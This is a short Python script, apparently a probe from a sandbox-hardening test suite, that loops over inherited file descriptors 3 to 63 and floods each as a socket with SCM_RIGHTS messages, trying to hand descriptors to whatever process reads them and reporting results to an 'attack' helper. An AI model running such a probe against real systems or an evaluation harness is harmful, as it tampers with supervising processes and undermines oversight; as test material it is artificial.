# tries: to hand descriptors to whoever reads its sockets
# outcomes: passed error timeout tampered
import array, os, socket
import attack
attack.tried()
for place in range(3, 64):
    try:
        with socket.socket(fileno=os.dup(place)) as own:
            own.setblocking(False)
            for _ in range(50):
                own.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 200))])
    except OSError:
        pass
